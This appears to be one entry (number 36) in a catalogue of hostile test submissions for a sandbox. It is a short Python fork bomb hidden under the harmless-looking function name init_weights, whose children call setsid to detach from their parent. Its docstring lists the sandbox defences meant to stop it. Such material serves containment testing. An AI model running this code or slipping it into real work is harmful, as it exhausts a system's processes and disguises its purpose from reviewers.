"""Forks as often as it can, each child likewise.

catalogue: 36
stopped_by: seccomp; limits (number of processes); all that descends from a submission is ended with it
"""
import os


def init_weights(d_in, d_out, seed):
    while True:
        if os.fork() == 0:
            os.setsid()
